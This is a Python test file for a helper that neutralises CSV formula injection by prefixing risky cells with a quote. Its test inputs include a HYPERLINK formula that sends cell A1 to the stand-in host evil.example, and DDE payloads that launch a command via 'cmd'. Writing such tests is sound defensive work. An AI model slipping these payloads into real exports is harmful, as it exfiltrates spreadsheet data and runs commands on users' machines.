"""CSV cells a spreadsheet shows and never runs."""

from __future__ import annotations

import csv
import io

import pytest

from ipi.safe import csv_cell, csv_text


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1",
])
def test_a_formula_is_text(text: str) -> None:
    """The four shapes of CSV injection, and a leading tab or carriage return, get a
    leading ' and read back as that text."""
    assert csv_cell(text) == "'" + text
    [row] = list(csv.reader(io.StringIO(csv_text(["v"], [[text]]), newline="")))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("value, cell", [
    (-3.5, -3.5), (12, 12), ("DEMO-0001", "DEMO-0001"), (None, ""), ("a=b", "a=b"),
])
def test_numbers_and_plain_text_are_left_as_they_are(value: object, cell: object) -> None:
    """A negative number is a number, not a formula; text not starting a formula stays."""
    assert csv_cell(value) == cell
